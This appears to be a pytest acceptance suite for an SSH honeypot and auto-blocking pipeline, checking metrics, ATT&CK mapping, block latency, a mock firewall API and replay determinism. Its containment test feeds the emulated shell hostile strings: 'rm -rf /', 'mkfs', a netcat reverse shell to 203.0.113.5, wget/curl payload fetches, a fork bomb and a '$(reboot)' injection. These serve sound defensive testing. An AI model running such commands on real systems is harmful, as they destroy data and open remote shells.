"""Acceptance gate: one test per criterion, each ending in a PASS line.

Run `pytest tests/test_acceptance.py -v -s` to watch the lines live; a
plain `pytest` run executes the same checks. Stated runtime budgets are
asserted inside the tests.
"""

import json
import os
import random
import signal
import statistics
import subprocess
import sys
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path

import numpy as np
import pytest
import requests

from decoyloop.config import PipelineConfig
from decoyloop.emulator import (
    BruteForce,
    CampaignProfile,
    Interactive,
    ReconOnly,
    Timing,
    benchmark_dataset,
    benchmark_tactic_incidents,
    run_campaign,
    write_incidents,
)
from decoyloop.events import EventKind, assemble_sessions, parse_event, serialize_event
from decoyloop.firewall import ALLOW, DENY, DEFAULT_WHITELIST, RuleTable, WhitelistedAddress
from decoyloop.metrics import attack_counts, defense_stats, engagement_stats, render_summary_markdown
from decoyloop.mitre import classify_command, default_classifier, map_event
from decoyloop.nsg_api import serve_mock_nsg
from decoyloop.pipeline import Pipeline, replay, report_from_files
from decoyloop.respond import BlockAction, Outcome, load_actions
from decoyloop.store import EventStore, Replay, ingest

from .test_detect import _random_events, _random_ruleset, _detector_fires, oracle_incidents
from .test_events import make_event, ts
from .test_firewall import ModelTable, VirtualClock, _impl_state
from .test_mitre import COMMAND_CASES, EXPECTED_KIND_TECHNIQUES
from .test_pipeline import loopback_config
from .test_sensor import _wait_for

EPOCH = datetime(2025, 5, 15, tzinfo=timezone.utc)


def _pass(n: int, message: str):
    print(f"\nACCEPTANCE {n} PASS: {message}")


@pytest.fixture(scope="module")
def benchmark(tmp_path_factory):
    out = tmp_path_factory.mktemp("benchmark")
    dataset = benchmark_dataset(str(out))
    incidents_path = out / "benchmark_incidents.jsonl"
    write_incidents(benchmark_tactic_incidents(), str(incidents_path))
    return dataset, str(incidents_path)


# -- criterion 1 ---------------------------------------------------------------


def _random_profile(rng, index):
    phases = []
    for _ in range(rng.randrange(1, 4)):
        roll = rng.random()
        if roll < 0.45:
            phases.append(
                BruteForce(attempts=rng.randrange(1, 25), attempts_per_session=rng.choice([0, 1, 4]))
            )
        elif roll < 0.7:
            phases.append(ReconOnly(banner_grabs=rng.randrange(1, 5)))
        else:
            phases.append(
                Interactive(
                    username="root",
                    password="123456",
                    commands=tuple(f"cmd{i}" for i in range(rng.randrange(0, 4))),
                    pre_failures=rng.randrange(0, 3),
                )
            )
    return CampaignProfile(
        name=f"acc1-{index}",
        phases=phases,
        seed=rng.getrandbits(32),
        epoch=EPOCH,
        timing=Timing(kind="uniform", low=0.2, high=5.0),
        source_ips=tuple(f"203.0.113.{k}" for k in range(1, 1 + rng.randrange(1, 5))),
    )


def test_criterion_1_metric_formula_fidelity(tmp_path):
    """Eq. 1-5 against a brute-force oracle on 50 seeded synthetic logs."""
    started = time.monotonic()
    rng = random.Random(101)
    for index in range(50):
        profile = _random_profile(rng, index)
        result = run_campaign(profile, f"out:{tmp_path / f'log{index}.jsonl'}")
        lines = Path(result.path).read_text().splitlines()
        events = [parse_event(line) for line in lines]
        raw = [json.loads(line) for line in lines]

        counts = attack_counts(events)
        assert counts.total == sum(1 for r in raw if r["eventid"] == "cowrie.session.connect")
        assert counts.successful == sum(1 for r in raw if r["eventid"] == "cowrie.login.success")
        assert counts.failed == sum(1 for r in raw if r["eventid"] == "cowrie.login.failed")

        stats = engagement_stats(assemble_sessions(events).sessions)
        oracle_durations = sorted(r["duration"] for r in raw if r["eventid"] == "cowrie.session.closed")
        assert sorted(stats.durations) == oracle_durations
        if oracle_durations:
            assert stats.mean == pytest.approx(sum(oracle_durations) / len(oracle_durations), rel=1e-9)
            assert stats.median == pytest.approx(statistics.median(oracle_durations), rel=1e-9)
    runtime = time.monotonic() - started
    assert runtime < 10.0
    _pass(1, f"counts/durations/means match the oracle over 50 logs in {runtime:.2f}s")


# -- criterion 2 ---------------------------------------------------------------


def test_criterion_2_defense_metrics(benchmark):
    """Eq. 6-8 against the formula oracle; canned file renders 0.78/0.86."""
    rng = random.Random(202)
    for _ in range(25):
        actions = []
        for index in range(rng.randrange(1, 60)):
            start = ts(rng.uniform(0, 5000))
            delay = rng.uniform(0.01, 18.0)
            actions.append(
                BlockAction(
                    incident_id=index,
                    ip=f"203.0.113.{index % 200 + 1}",
                    start_at=start,
                    trigger_event_at=start - timedelta(seconds=rng.uniform(0.1, 2.0)),
                    success_at=start + timedelta(seconds=delay),
                    outcome=Outcome.APPLIED,
                    attempts=1,
                )
            )
        stats = defense_stats(actions)
        oracle = [(a.success_at - a.start_at).total_seconds() for a in actions]
        assert stats.block.delays == pytest.approx(oracle, rel=1e-9)
        assert stats.mttb == pytest.approx(sum(oracle) / len(oracle), rel=1e-9)
        assert stats.block.median == pytest.approx(statistics.median(oracle), rel=1e-9)
        end_oracle = [(a.success_at - a.trigger_event_at).total_seconds() for a in actions]
        assert stats.end_to_end.mean == pytest.approx(sum(end_oracle) / len(end_oracle), rel=1e-9)

    dataset, _ = benchmark
    canned = defense_stats(load_actions(dataset.actions_path))
    assert canned.block.median == pytest.approx(0.78, abs=1e-6)
    assert canned.mttb == pytest.approx(0.86, abs=1e-6)
    from decoyloop.metrics import build_report

    report = build_report([], [], load_actions(dataset.actions_path))
    text = render_summary_markdown(report)
    assert "median 0.78 s" in text
    assert "MTTB: 0.86 s" in text
    _pass(2, "block delay and MTTB match the oracle; canned file renders median 0.78 s / MTTB 0.86 s")


# -- criterion 3 ---------------------------------------------------------------


def test_criterion_3_closed_loop_latency(tmp_path):
    """30 live login-to-block trials on loopback; blocked sources then
    produce only BLOCKED_ATTEMPT events."""
    started = time.monotonic()
    config = loopback_config(tmp_path, blocking=True)
    pipe = Pipeline(config).start()
    delays = []
    trial_ips = [f"127.0.9.{k}" for k in range(1, 31)]
    try:
        host, port = pipe.sensor.bound_address
        for trial, attacker_ip in enumerate(trial_ips):
            campaign = CampaignProfile(
                name=f"trial{trial}",
                mode="live",
                phases=[Interactive(username="root", password="123456", commands=())],
                seed=trial,
                source_ips=(attacker_ip,),
            )
            result = run_campaign(campaign, f"tcp:{host}:{port}")
            assert result.live.logins_succeeded == 1, f"trial {trial} login failed"

            def applied():
                return [
                    a for a in pipe.orchestrator.actions
                    if a.ip == attacker_ip and a.outcome is Outcome.APPLIED
                ]

            assert _wait_for(lambda: len(applied()) == 1, timeout=10), f"trial {trial} never blocked"
            delays.append(applied()[0].orchestration_delay)

            # recidivism probe: one more attempt from the blocked source
            retry = run_campaign(
                CampaignProfile(name=f"retry{trial}", mode="live",
                                phases=[ReconOnly(banner_grabs=1)], seed=trial,
                                source_ips=(attacker_ip,)),
                f"tcp:{host}:{port}",
            )
            assert retry.live.refused == 1, f"trial {trial} retry was not refused"
        assert _wait_for(
            lambda: sum(
                1 for e in pipe.store.all_events() if e.kind is EventKind.BLOCKED_ATTEMPT
            ) == 30,
            timeout=10,
        )
        # post-block telemetry from each trial source is BLOCKED_ATTEMPT only
        # (the in-flight session may still emit its own teardown close)
        for attacker_ip in trial_ips:
            blocked_at = next(
                a.success_at for a in pipe.orchestrator.actions
                if a.ip == attacker_ip and a.outcome is Outcome.APPLIED
            )
            late = [
                e for e in pipe.store.all_events()
                if e.src_ip == attacker_ip
                and e.timestamp > blocked_at + timedelta(seconds=0.5)
                and e.kind is not EventKind.BLOCKED_ATTEMPT
            ]
            assert late == [], f"{attacker_ip}: unexpected post-block events {late}"
    finally:
        pipe.stop()
    p50 = float(np.percentile(delays, 50))
    p95 = float(np.percentile(delays, 95))
    runtime = time.monotonic() - started
    assert len(delays) == 30
    assert p50 <= 1.5, f"p50 {p50:.3f}s exceeds 1.5s"
    assert p95 <= 5.0, f"p95 {p95:.3f}s exceeds 5s"
    assert runtime < 180.0
    _pass(3, f"30 trials blocked; orchestration delay p50 {p50 * 1000:.0f}ms, "
             f"p95 {p95 * 1000:.0f}ms, runtime {runtime:.1f}s")


# -- criterion 4 ---------------------------------------------------------------


def test_criterion_4_mapping_table_fidelity():
    """Event-to-technique mapping matches the normative table, including
    the login.failure alias and the four-way command classification."""
    classifier = default_classifier()
    for kind, expected in EXPECTED_KIND_TECHNIQUES.items():
        if kind is EventKind.COMMAND_INPUT:
            continue
        seen = {t.technique_id for t in map_event(make_event(kind))}
        assert seen == expected, kind
    # alias parses and maps identically to the canonical spelling
    alias_line = (
        '{"eventid":"cowrie.login.failure","timestamp":"2025-05-15T08:00:00.000000Z",'
        '"session":"s1","src_ip":"203.0.113.7","username":"a","password":"b"}'
    )
    assert {t.technique_id for t in map_event(parse_event(alias_line))} == {"T1110"}
    # command classification reaches all four techniques
    reached = set()
    for command, expected in COMMAND_CASES:
        tag = classify_command(command, classifier)
        assert tag.technique_id == expected, command
        reached.add(tag.technique_id)
    assert reached == {"T1059", "T1082", "T1083", "T1087"}
    # tactic sides are fixed too
    assert map_event(make_event(EventKind.LOGIN_FAILED))[0].tactic.value == "Credential Access"
    assert map_event(make_event(EventKind.LOGIN_SUCCESS))[0].tactic.value == "Initial Access"
    assert map_event(make_event(EventKind.CLIENT_KEX))[0].technique_name == "Network Service Scan"
    _pass(4, "all seven wire kinds map to the normative technique sets; four-way command split verified")


# -- criterion 5 ---------------------------------------------------------------


def test_criterion_5_detection_soundness():
    """Rule engine equals the sliding-window oracle on 100 random streams."""
    started = time.monotonic()
    rng = random.Random(505)
    for stream in range(100):
        ruleset = _random_ruleset(rng)
        events = _random_events(rng, n=rng.randrange(60, 200), n_ips=rng.randrange(2, 6))
        got = _detector_fires(ruleset, events)
        expected = oracle_incidents(ruleset, events)
        assert got == expected, f"stream {stream} diverged"
        for _, entity, _, matched in got:
            sessions = {session for session, _, _ in matched}
            for event in events:
                if event.session in sessions and (event.session, event.kind.value, event.timestamp) in matched:
                    assert event.src_ip == entity, "cross-entity contamination"
    runtime = time.monotonic() - started
    assert runtime < 30.0
    _pass(5, f"100 random streams match the oracle with zero cross-entity leaks in {runtime:.2f}s")


# -- criterion 6 ---------------------------------------------------------------


def test_criterion_6_benchmark_reproduction(benchmark, tmp_path):
    dataset, incidents_path = benchmark
    store = EventStore(tmp_path / "store")
    summary = ingest(Replay(path=dataset.log_path), store)
    assert summary.accepted > 0
    store.close()

    config = PipelineConfig(store_dir=str(tmp_path / "store"))
    report = report_from_files(
        config,
        actions_path=dataset.actions_path,
        incidents_path=incidents_path,
    )
    assert report.counts.total == 12224
    assert report.counts.successful == 2008
    assert report.counts.failed == 9292
    assert report.engagement.filtered_mean == pytest.approx(4.23, abs=0.05)
    text = render_summary_markdown(report)
    assert "Total attacks detected: 12224" in text
    assert "Failure-to-success ratio: 4.6:1" in text
    assert "Mean after IQR filter: 4.23 s" in text
    assert "MTTB: 0.86 s" in text
    from decoyloop.mitre import summary_tactics_csv

    tactics_csv = summary_tactics_csv(report.tactics)
    assert "Initial Access,414" in tactics_csv
    assert "Credential Access,31" in tactics_csv
    assert "Execution,68" in tactics_csv
    assert "Discovery,451" in tactics_csv
    _pass(6, "totals 12224/2008/9292, ratio 4.6:1, trimmed mean 4.23 s, tactic table renders the canned counts")


# -- criterion 7 ---------------------------------------------------------------


def test_criterion_7_nsg_model_check():
    """10,000 randomized commands (direct + REST) against the model."""
    started = time.monotonic()
    rng = random.Random(707)
    total_commands = 0
    ips = [f"203.0.113.{i}" for i in range(1, 30)] + ["10.0.0.4", "127.0.0.1", "192.168.7.7"]
    for sequence in range(20):
        clock = VirtualClock()
        table = RuleTable(whitelist=DEFAULT_WHITELIST, clock=clock.now)
        model = ModelTable()
        server = serve_mock_nsg(table)
        session = requests.Session()
        try:
            for step in range(500):
                total_commands += 1
                roll = rng.random()
                if roll < 0.35:
                    ip = rng.choice(ips)
                    ttl = rng.choice([0, 60, 900])
                    try:
                        _, created = table.upsert_deny(ip, ttl=ttl if ttl else 0)
                        outcome = "created" if created else "duplicate"
                    except WhitelistedAddress:
                        outcome = "refused"
                    assert outcome == model.upsert_deny(ip, ttl, clock.now())
                elif roll < 0.5:
                    clock.advance(rng.choice([1, 30, 300, 1200]))
                    table.expire_rules()
                    model.expire(clock.now())
                elif roll < 0.6 and table.rules():
                    victim = rng.choice(table.rules())
                    twin = [m for m in model.rules
                            if (m["priority"], m["source"]) == (victim.priority, victim.source)]
                    table.delete_rule(victim.name)
                    model.delete(twin[0]["name"])
                elif roll < 0.7:
                    name = f"rest-{rng.randrange(6)}"
                    priority = rng.choice([150, 151, 152, 800, 801])
                    access = rng.choice([ALLOW, DENY])
                    source = rng.choice(["203.0.113.0/24", "198.51.100.0/25", "10.0.0.0/24"])
                    response = session.put(
                        f"{server.url}/securityRules/{name}",
                        json={"priority": priority, "access": access,
                              "sourceAddressPrefix": source, "protocol": "Tcp"},
                        timeout=5,
                    )
                    impl = {201: "created", 200: "replaced", 409: "conflict", 400: "refused"}[
                        response.status_code
                    ]
                    assert impl == model.put(name, priority, access, source, clock.now())
                elif roll < 0.75:
                    name = f"rest-{rng.randrange(6)}"
                    response = session.delete(f"{server.url}/securityRules/{name}", timeout=5)
                    assert (response.status_code == 204) == model.delete(name)
                else:
                    ip = rng.choice(ips)
                    port = rng.choice([22, 2222, 8080])
                    assert table.decide(ip, port, "Tcp").access == model.decide(ip, port, "Tcp", clock.now())
                assert _impl_state(table) == model.state(clock.now()), f"seq {sequence} step {step}"
        finally:
            server.stop()
    runtime = time.monotonic() - started
    assert total_commands == 10000
    assert runtime < 60.0
    _pass(7, f"10,000 randomized commands, zero divergences, {runtime:.1f}s")


# -- criterion 8 ---------------------------------------------------------------


def test_criterion_8_durability_and_replay_determinism(tmp_path):
    # build a log spanning ~300 s of event time, then kill ingest mid-replay
    events = [
        make_event(EventKind.SESSION_CONNECT, i * 0.1, f"{i:012x}", f"203.0.113.{i % 200 + 1}")
        for i in range(3000)
    ]
    log = tmp_path / "big.jsonl"
    with open(log, "w") as fh:
        for event in events:
            fh.write(serialize_event(event) + "\n")
    store_dir = tmp_path / "store"
    proc = subprocess.Popen(
        [sys.executable, "-m", "decoyloop.cli", "ingest",
         "--source", f"replay:{log}:100", "--store", str(store_dir)],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )
    time.sleep(1.5)
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=10)

    store = EventStore(store_dir)
    stored = store.all_events()
    store.close()
    assert 0 < len(stored) < len(events), "kill landed outside the ingest window"
    assert stored == events[: len(stored)], "stored events are not a clean prefix"
    assert store.recovered_partial <= 1

    # replay determinism: two runs over the same inputs, byte-identical
    config = PipelineConfig()
    fixture = Path(__file__).parent / "fixtures" / "sample_campaign.jsonl"
    out_a, out_b = tmp_path / "replay-a", tmp_path / "replay-b"
    replay(str(fixture), config, out_dir=str(out_a))
    replay(str(fixture), config, out_dir=str(out_b))
    names = sorted(p.name for p in out_a.iterdir())
    assert names == sorted(p.name for p in out_b.iterdir())
    for name in names:
        assert (out_a / name).read_bytes() == (out_b / name).read_bytes(), name
    _pass(8, f"kill -9 during ingest kept a clean prefix ({len(stored)}/{len(events)} events, "
             f"{store.recovered_partial} partial); replay outputs byte-identical")


# -- criterion 9 ---------------------------------------------------------------


def test_criterion_9_containment_audit(monkeypatch):
    """Full command-table run: no host writes, no spawns, no sockets."""
    import builtins
    import socket as socket_mod
    import subprocess as subprocess_mod

    from decoyloop.shell import DEFAULT_COMMANDS, ShellEmulation, emulate_command

    breaches = []

    def forbid(label):
        def guard(*args, **kwargs):
            breaches.append(label)
            raise AssertionError(f"containment breach: {label}")

        return guard

    monkeypatch.setattr(subprocess_mod, "Popen", forbid("subprocess.Popen"))
    monkeypatch.setattr(subprocess_mod, "run", forbid("subprocess.run"))
    monkeypatch.setattr(subprocess_mod, "call", forbid("subprocess.call"))
    monkeypatch.setattr(os, "system", forbid("os.system"))
    monkeypatch.setattr(os, "popen", forbid("os.popen"))
    monkeypatch.setattr(socket_mod, "socket", forbid("socket.socket"))
    monkeypatch.setattr(socket_mod, "create_connection", forbid("socket.create_connection"))
    real_open = builtins.open

    def guarded_open(file, mode="r", *args, **kwargs):
        if any(flag in str(mode) for flag in ("w", "a", "x", "+")):
            breaches.append(f"open({file!r}, {mode!r})")
            raise AssertionError(f"containment breach: write open({file!r})")
        return real_open(file, mode, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", guarded_open)

    shell = ShellEmulation()
    probe_args = {
        "cat": "/etc/passwd /proc/version",
        "cd": "/tmp",
        "echo": "$(reboot)",
        "ls": "/",
        "wget": "http://203.0.113.5/payload.bin",
        "curl": "-O http://203.0.113.5/x",
        "which": "nc",
        "uname": "-a",
    }
    executed = 0
    for name in DEFAULT_COMMANDS:
        emulate_command(f"{name} {probe_args.get(name, '')}".strip(), shell)
        executed += 1
    for hostile in ("rm -rf /", "mkfs.ext4 /dev/sda", "nc -e /bin/sh 203.0.113.5 4444",
                    "python3 -c 'import os'", "kill -9 1", ":(){ :|:& };:"):
        emulate_command(hostile, shell)
        executed += 1
    assert breaches == []
    _pass(9, f"{executed} commands executed with zero host writes, spawns, or connections")
